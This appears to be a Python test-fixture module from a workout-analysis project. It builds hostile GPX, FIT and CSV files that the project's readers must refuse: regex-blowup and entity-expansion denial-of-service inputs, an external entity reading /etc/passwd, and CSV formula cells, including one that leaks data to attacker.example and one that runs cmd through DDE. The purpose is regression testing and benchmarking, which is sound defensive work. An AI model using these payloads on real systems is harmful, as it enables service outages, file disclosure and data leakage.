"""Hostile files, generated (issue 9): each attack reproduced against the libraries we use, as bytes.

Used by tests/test_attacks.py (each must be refused with InputError before the slow library sees it)
and by benchmarks/attacks.py (time and peak memory per attack, and what the unguarded library does).
Nothing here is committed as a binary: every file is built from these few lines, so the attacks stay
readable and their sizes can be changed.
"""

from __future__ import annotations

import struct
from collections.abc import Callable
from dataclasses import dataclass

from analysis.io.fit_crc import crc16

GPX_HEAD = '<?xml version="1.0" encoding="UTF-8"?>\n<gpx version="1.1" creator="attack" ' \
           'xmlns="http://www.topografix.com/GPX/1/1">\n'


def _track(points: int = 120) -> str:
    """A short, valid recorded track (1 Hz, ~3 m/s northwards), so the file is a run but for the attack."""
    rows = "".join(
        f'<trkpt lat="{48.0 + i * 2.7e-5:.6f}" lon="11.000000"><ele>500</ele>'
        f"<time>2024-05-04T07:{i // 60:02d}:{i % 60:02d}Z</time></trkpt>\n"
        for i in range(points)
    )
    return f"<trk><type>running</type><trkseg>\n{rows}</trkseg></trk>\n"


def gpx_stray_xmlns(size_bytes: int = 480_000) -> bytes:
    """A valid GPX ending in an extension that is the word "xmlns" over and over, with no "=" after it.

    gpxpy's pre-scan regex (`\\sxmlns:?[^=]*="[^"]+"`) scans from every one to the end of the file
    and back: quadratic in their number (issue 9: a 480 KB file took 30 s).
    """
    head = GPX_HEAD + _track() + "<extensions><note>"
    tail = "</note></extensions>\n</gpx>\n"
    words = max(0, (size_bytes - len(head) - len(tail)) // len(" xmlns"))
    return (head + " xmlns" * words + tail).encode()


def gpx_distinct_namespaces(count: int = 8_000) -> bytes:
    """A valid GPX declaring `count` different namespaces; gpxpy registers each in a growing global map."""
    ext = "".join(f'<n{i}:x xmlns:n{i}="urn:attack:{i}">1</n{i}:x>' for i in range(count))
    return (GPX_HEAD + f"<metadata><extensions>{ext}</extensions></metadata>\n" + _track() + "</gpx>\n").encode()


def gpx_far_xmlns(pad_bytes: int = 20_000_000, marks: int = 90) -> bytes:
    """Few stray "xmlns" (under the count cap) before megabytes without an "=", and broken XML at the end.

    The broken end makes lxml fail, so the file would go to gpxpy, whose regex would scan the padding
    once per mark: 90 × 20 MB. This is why the scan itself is measured (`gpxpy_prescan_chars`).
    """
    body = "<metadata><desc>" + " xmlns" * marks + "a" * pad_bytes + "</desc></metadata>\n"
    return (GPX_HEAD + body + _track() + "</gpx").encode()  # no closing ">"


def gpx_entity_expansion(entity_bytes: int = 2_000_000, references: int = 75) -> bytes:
    """A padded entity referenced `references` times: 2 MB of file, 150 million characters once expanded.

    One big entity used a few dozen times stays under expat's amplification limit (it measures the
    ratio of output to input, 100 by default, and the input is large), so the standard library expands
    it all (issue 9: 311 MB of memory).
    """
    dtd = f'<!DOCTYPE gpx [\n<!ENTITY pad "{"x" * entity_bytes}">\n]>\n'
    name = "&pad;" * references
    return (
        # The comment puts "<gpx" in the first bytes, where content sniffing looks, ahead of the big DTD.
        '<?xml version="1.0" encoding="UTF-8"?>\n<!-- <gpx> -->\n' + dtd
        + '<gpx version="1.1" creator="attack" xmlns="http://www.topografix.com/GPX/1/1">\n'
        + f"<metadata><name>{name}</name></metadata>\n" + _track() + "</gpx>\n"
    ).encode()


def gpx_external_entity(target: str = "file:///etc/passwd") -> bytes:
    """An external entity: an old lxml read the local file `target` into the parsed track's name."""
    return (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        f'<!DOCTYPE gpx [<!ENTITY secret SYSTEM "{target}">]>\n'
        '<gpx version="1.1" creator="attack" xmlns="http://www.topografix.com/GPX/1/1">\n'
        "<metadata><name>&secret;</name></metadata>\n" + _track() + "</gpx>\n"
    ).encode()


def fit_tiny_messages(size_bytes: int = 1_000_000, payload_bytes: int = 0, trailer: bytes = b"") -> bytes:
    """A FIT file with valid header and file CRCs, filled with record messages of `payload_bytes` each.

    `payload_bytes=0`: one-byte messages (a definition with no fields), which kept fitparse busy 14 s
    and 200 MB for 1 MB (issue 9: a CRC proves nothing, an attacker computes it). 1: heart rate only,
    two bytes per message. `trailer` goes after the messages, inside the CRC (e.g. a data message of an
    undefined local type, which the fast decoder leaves to the reference decoder).
    """
    body = bytearray()
    # file_id (global 0): type (field 0, enum) = 4, activity
    body += bytes([0x40, 0, 0]) + struct.pack("<H", 0) + bytes([1, 0, 1, 0x00]) + bytes([0x00, 4])
    fields = bytes([3, 1, 0x02]) if payload_bytes == 1 else b""  # heart_rate, 1 byte, uint8
    body += bytes([0x41, 0, 0]) + struct.pack("<H", 20) + bytes([len(fields) // 3]) + fields
    message = bytes([0x01]) + bytes([140]) * payload_bytes
    count = max(1, (size_bytes - 14 - 2 - len(body) - len(trailer)) // len(message))
    body += message * count + trailer
    header = bytearray(struct.pack("<BBHI4s", 14, 0x20, 2195, len(body), b".FIT"))
    header += struct.pack("<H", crc16(bytes(header)))
    data = bytes(header) + bytes(body)
    return data + struct.pack("<H", crc16(data))


def csv_duplicate_headers(columns: int = 40_000) -> bytes:
    """A CSV whose header is one name 40,000 times (pandas took 14 s to de-duplicate the names)."""
    return (",".join(["date"] * columns) + "\n" + ",".join(["2026-01-01"] * columns) + "\n").encode()


# Cells a spreadsheet runs as formulas when a CSV export writes them back out unescaped (OWASP "CSV
# injection"): a link that leaks data, a command (old Excel DDE), arithmetic and an @-function.
FORMULA_CELLS = (
    '=HYPERLINK("http://attacker.example/?leak="&A1,"click")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
)


def csv_formula_cells() -> bytes:
    """A valid strength log (our layout) whose exercise and notes cells start with = + - @."""
    rows = ["date,athlete,session_type,exercise,sets,reps,back_soreness,notes"]
    for i, cell in enumerate(FORMULA_CELLS):
        quoted = '"' + cell.replace('"', '""') + '"'
        rows.append(f"2026-01-0{i + 1},Mallory,core,{quoted},3,10,{i},{quoted}")
    return ("\n".join(rows) + "\n").encode()


@dataclass(frozen=True)
class Attack:
    """One hostile file: how to build it, which reader takes it, and the refusal expected."""

    name: str
    file_name: str
    build: Callable[[], bytes]
    kind: str  # "activity" (read_activity) or "strength" (read_strength_log)
    refusal: str  # a fragment of the InputError message
    what: str  # the attack, in a sentence


ATTACKS: tuple[Attack, ...] = (
    Attack("gpx-stray-xmlns", "stray.gpx", gpx_stray_xmlns, "activity", "malformed 'xmlns' marks",
           "480 KB valid GPX ending in 78,000 stray 'xmlns' (gpxpy's quadratic pre-scan)"),
    Attack("gpx-distinct-namespaces", "namespaces.gpx", gpx_distinct_namespaces, "activity",
           "different XML namespaces", "8,000 distinct namespace declarations (gpxpy's global prefix map)"),
    Attack("gpx-far-xmlns", "far.gpx", gpx_far_xmlns, "activity", "far from any value",
           "90 stray 'xmlns' before 20 MB without '=', broken end (forces the gpxpy fallback)"),
    Attack("gpx-entity-expansion", "laughs.gpx", gpx_entity_expansion, "activity", "DTD or XML entities",
           "2 MB entity referenced 75 times: 150 million characters once expanded"),
    Attack("gpx-external-entity", "xxe.gpx", gpx_external_entity, "activity", "DTD or XML entities",
           "external entity naming /etc/passwd"),
    Attack("fit-one-byte-messages", "ones.fit", fit_tiny_messages, "activity", "fewer than 2 bytes each on average",
           "1 MB FIT of one-byte messages with valid CRCs"),
    Attack("fit-one-byte-messages-fallback", "ones-fallback.fit",
           lambda: fit_tiny_messages(trailer=bytes([0x05])), "activity", "fewer than 2 bytes each on average",
           "the same, ending in a message the fast decoder leaves to fitparse"),
    Attack("fit-two-byte-messages-fallback", "twos-fallback.fit",
           lambda: fit_tiny_messages(payload_bytes=1, trailer=bytes([0x05])), "activity",
           "reference decoder", "1 MB of two-byte heart-rate messages (500,000), ending in a message for fitparse"),
    Attack("csv-duplicate-headers", "dupes.csv", csv_duplicate_headers, "strength", "columns in its header",
           "CSV header of 40,000 duplicate names"),
)
